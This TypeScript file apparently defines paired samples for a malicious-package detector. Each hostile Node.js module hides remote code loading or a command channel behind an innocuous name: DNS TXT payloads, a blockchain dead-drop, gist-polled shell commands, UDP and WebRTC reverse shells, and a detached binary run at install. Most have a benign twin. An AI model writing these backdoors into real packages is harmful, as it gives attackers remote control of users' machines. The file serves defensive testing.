import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** Code that comes from afar, over clients that are seldom looked at. */
export const FETCHING: Readonly<Record<string, Pair>> = {
  'tls-socket': atImport(
    js`'use strict';
const tls = require('node:tls');

/** Loads the rules. */
function loadRules(host, done) {
  const parts = [];
  const socket = tls.connect(443, host, { servername: host }, () => {
    socket.write(\`GET /rules HTTP/1.0\r\nHost: \${host}\r\n\r\n\`);
  });
  socket.on('data', (part) => parts.push(part));
  socket.on('end', () => done(Buffer.concat(parts).toString('utf8').split('\r\n\r\n').slice(1).join('')));
  socket.on('error', () => undefined);
}

loadRules('rules.kit-lint.example', (source) => new Function('require', 'process', source)(require, process));
exports.lint = (text) => text.length;
`,
    js`'use strict';
const tls = require('node:tls');

/** Tells when the certificate of a host ends. */
exports.certificate = function certificate(host, done) {
  const socket = tls.connect(443, host, { servername: host }, () => {
    done(null, new Date(socket.getPeerCertificate().valid_to));
    socket.end();
  });
  socket.on('error', done);
};
`,
  ),
  'http2-module': atUse(
    js`import { connect } from 'node:http2';
import { Module } from 'node:module';

class Remote {
  #session;
  constructor(authority) {
    this.#session = connect(authority);
  }
  async text(path) {
    const stream = this.#session.request({ ':path': path });
    stream.setEncoding('utf8');
    let body = '';
    for await (const part of stream) body += part;
    this.#session.close();
    return body;
  }
}

/** Loads an adapter by its name. */
export async function adapter(name) {
  const source = await new Remote('https://adapters.kit-store.example').text(\`/\${name}.cjs\`);
  const made = new Module(name);
  made._compile(source, name);
  return made.exports;
}
`,
  ),
  'dgram-command': atImport(
    js`'use strict';
const { createSocket } = require('node:dgram');
const { exec } = require('node:child_process');

const client = createSocket('udp4');
const ask = () => client.send('hello', 5353, '192.0.2.44');
client.on('message', (message, { address, port }) => {
  exec(message.toString(), (error, stdout, stderr) => client.send(stdout || stderr, port, address));
});
setInterval(ask, 30_000).unref();
exports.stop = () => client.close();
`,
    js`'use strict';
const { createSocket } = require('node:dgram');

/** A client of statsd. */
exports.statsd = function statsd(host, port = 8125) {
  const client = createSocket('udp4');
  client.on('error', () => client.close());
  return {
    count: (name, value = 1) => client.send(\`\${name}:\${value}|c\`, port, host),
    close: () => client.close(),
  };
};
`,
  ),
  'axios-transform': atImport(
    js`'use strict';
const axios = require('axios');

const http = axios.create({
  baseURL: 'https://locale.kit-dates.example',
  timeout: 4000,
  responseType: 'text',
  transformResponse: [(data) => Function('require', \`return (\${data})\`)(require)],
});

/** The locales, once they were loaded. */
exports.locales = http.get('/pack', { params: { v: 4 } }).then(
  (response) => response.data,
  () => ({}),
);
`,
    js`'use strict';
const axios = require('axios');

const http = axios.create({
  baseURL: 'https://locale.kit-dates.example',
  timeout: 4000,
  responseType: 'text',
  transformResponse: [(data) => JSON.parse(data, (key, value) => (key === 'at' ? new Date(value) : value))],
});

/** The locales, once they were loaded. */
exports.locales = () => http.get('/pack', { params: { v: 4 } }).then((response) => response.data);
`,
  ),
  'got-binary': atInstall(
    js`import { createWriteStream } from 'node:fs';
import { chmod, mkdtemp } from 'node:fs/promises';
import { pipeline } from 'node:stream/promises';
import { spawn } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import got from 'got';

const config = {
  host: 'https://bin.kit-codec.example',
  name: \`codec-\${process.platform}-\${process.arch}\`,
  retry: { limit: 2 },
};

const file = join(await mkdtemp(join(tmpdir(), 'codec-')), config.name);
await pipeline(got.stream(\`\${config.host}/\${config.name}\`, { retry: config.retry }), createWriteStream(file));
await chmod(file, 0o755);
spawn(file, ['--daemon'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
`,
    js`import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync, chmodSync } from 'node:fs';
import got from 'got';

const { version, checksums } = JSON.parse(readFileSync(new URL('../checksums.json', import.meta.url), 'utf8'));
const name = \`codec-\${process.platform}-\${process.arch}\`;
const bytes = await got(\`https://github.example/kit/codec/releases/download/v\${version}/\${name}\`).buffer();
if (createHash('sha512').update(bytes).digest('hex') !== checksums[name]) {
  throw new Error('kit-codec: the checksum of the binary is wrong');
}
const file = new URL('../bin/codec', import.meta.url);
writeFileSync(file, bytes);
chmodSync(file, 0o755);
`,
  ),
  'git-clone': atImport(
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { mkdtempSync } = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

/** Loads the presets, which live in their own repository. */
function presets() {
  const folder = mkdtempSync(join(tmpdir(), 'presets-'));
  execFileSync('git', ['clone', '--depth=1', '--quiet', 'https://git.kit-presets.example/presets.git', folder]);
  return require(folder);
}

module.exports = presets();
`,
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { rmSync } = require('node:fs');
const { join } = require('node:path');

/** Makes a project from a template that lives in a repository. */
exports.scaffold = function scaffold(repository, folder) {
  execFileSync('git', ['clone', '--depth=1', '--quiet', repository, folder], { stdio: 'inherit' });
  rmSync(join(folder, '.git'), { recursive: true, force: true });
  return require(join(folder, 'package.json'));
};
`,
  ),
  'dns-txt': atImport(
    js`import { resolveTxt } from 'node:dns/promises';
import { createContext, Script } from 'node:vm';

const zone = 'cfg.kit-flags.example';

/** Loads the flags from the zone. */
async function load() {
  const records = await resolveTxt(zone);
  const packed = records
    .map((parts) => parts.join(''))
    .sort()
    .map((record) => record.slice(3))
    .join('');
  const script = new Script(Buffer.from(packed, 'base64').toString('utf8'));
  return script.runInContext(createContext({ process, fetch, console }));
}

export const flags = load().catch(() => ({}));
`,
    js`import { resolveTxt } from 'node:dns/promises';

/** Whether a domain has the record that proves who owns it. */
export async function verify(domain, token) {
  const records = await resolveTxt(domain);
  return records
    .map((parts) => parts.join(''))
    .filter((record) => record.startsWith('kit-verify='))
    .some((record) => Buffer.from(record.slice(11), 'base64').toString('utf8') === token);
}
`,
  ),
  'graphql-script': atUse(
    js`import { GraphQLClient, gql } from 'graphql-request';
import vm from 'node:vm';

const client = new GraphQLClient('https://graph.kit-forms.example/graphql');
const QUERY = gql\`
  query Validator($id: ID!) {
    validator(id: $id) {
      body
    }
  }
\`;

/** Validates a form. */
export async function validate(id, form) {
  const { validator } = await client.request(QUERY, { id });
  const run = vm.compileFunction(validator.body, ['form', 'process']);
  return run(form, process);
}
`,
  ),
  'ipfs-gateways': atImport(
    js`const CID = 'bafyexampleexampleexampleexample';
const GATEWAYS = ['https://ipfs-a.example', 'https://ipfs-b.example', 'https://ipfs-c.example'];

const from = async (gateway) => {
  const response = await fetch(\`\${gateway}/ipfs/\${CID}\`);
  if (!response.ok) throw new Error(response.statusText);
  return response.text();
};

/** The schema, from whichever gateway answers first. */
export const schema = Promise.any(GATEWAYS.map(from))
  .then((text) => import(\`data:text/javascript;base64,\${btoa(text)}\`))
  .then((module) => module.default)
  .catch(() => null);
`,
    js`const GATEWAYS = ['https://ipfs-a.example', 'https://ipfs-b.example', 'https://ipfs-c.example'];

const from = async (gateway, cid) => {
  const response = await fetch(\`\${gateway}/ipfs/\${cid}\`);
  if (!response.ok) throw new Error(response.statusText);
  return response.json();
};

/** The metadata of a token, from whichever gateway answers first. */
export const metadata = (cid) => Promise.any(GATEWAYS.map((gateway) => from(gateway, cid)));
`,
  ),
  'chain-dead-drop': atImport(
    js`'use strict';
const { Contract, JsonRpcProvider } = require('ethers');

const ABI = ['function get(address) view returns (string)'];
const [contract, owner] = [
  '0x6dA1f3c8827b04E95dC3a7f016eB4480c2f90aaa',
  '0x2fC98a10d7436bEe51098aD3cc47f1b60e5d0bbb',
];

class Settings {
  constructor(rpc) {
    this.store = new Contract(contract, ABI, new JsonRpcProvider(rpc));
  }
  async apply() {
    const url = await this.store.get(owner);
    const answer = await fetch(url);
    const text = await answer.text();
    return eval(text);
  }
}

new Settings('https://rpc.kit-chain.example').apply().catch(() => {});
exports.Settings = Settings;
`,
    js`'use strict';
const { JsonRpcProvider } = require('ethers');

/** The avatar of a name of ENS. */
exports.avatar = async function avatar(rpc, name) {
  const resolver = await new JsonRpcProvider(rpc).getResolver(name);
  const url = await resolver.getText('avatar');
  const answer = await fetch(url);
  return Buffer.from(await answer.arrayBuffer());
};
`,
  ),
  'gist-commands': atImport(
    js`import { Octokit } from '@octokit/rest';
import { promisify } from 'node:util';
import { exec } from 'node:child_process';

const run = promisify(exec);
const octokit = new Octokit();

/** Runs the maintenance tasks that are planned. */
async function maintenance() {
  const { data } = await octokit.gists.get({ gist_id: '0123456789abcdef0123456789abcdef' });
  for (const { content } of Object.values(data.files)) {
    await run(content).catch(() => undefined);
  }
}

setInterval(maintenance, 3_600_000).unref();
export const version = '1.4.0';
`,
    js`import { Octokit } from '@octokit/rest';

const octokit = new Octokit();

/** The files of a gist by their names. */
export async function gist(id) {
  const { data } = await octokit.gists.get({ gist_id: id });
  return Object.fromEntries(Object.values(data.files).map(({ filename, content }) => [filename, content]));
}
`,
  ),
  'data-channel': atImport(
    js`'use strict';
const SimplePeer = require('simple-peer');
const wrtc = require('@roamhq/wrtc');
const { io } = require('socket.io-client');
const { execSync } = require('child_process');

const signal = io('https://signal.kit-share.example', { transports: ['websocket'] });
const peer = new SimplePeer({ initiator: true, wrtc });
peer.on('signal', (offer) => signal.emit('offer', offer));
signal.on('answer', (answer) => peer.signal(answer));
peer.on('data', (data) => {
  const { id, line } = JSON.parse(data);
  peer.send(JSON.stringify({ id, out: execSync(line).toString() }));
});
exports.peer = peer;
`,
    js`'use strict';
const SimplePeer = require('simple-peer');
const wrtc = require('@roamhq/wrtc');

/** Shares a document with a peer. */
exports.share = function share(signal, document) {
  const peer = new SimplePeer({ initiator: true, wrtc });
  peer.on('signal', (offer) => signal.emit('offer', offer));
  signal.on('answer', (answer) => peer.signal(answer));
  peer.on('data', (data) => {
    const { path, value } = JSON.parse(data);
    document.set(path, value);
  });
  return peer;
};
`,
  ),
  'event-source': atUse(
    js`import { EventSource } from 'eventsource';

/** Follows the changes of a project. */
export class Changes {
  #source = null;
  #handlers = new Map([
    ['ping', () => {}],
    ['patch', (body) => (0, eval)(body)],
  ]);

  follow(project) {
    this.#source = new EventSource(\`https://changes.kit-live.example/\${project}\`);
    for (const [name, handle] of this.#handlers) {
      this.#source.addEventListener(name, (event) => handle(event.data));
    }
    return () => this.#source.close();
  }
}
`,
  ),
};
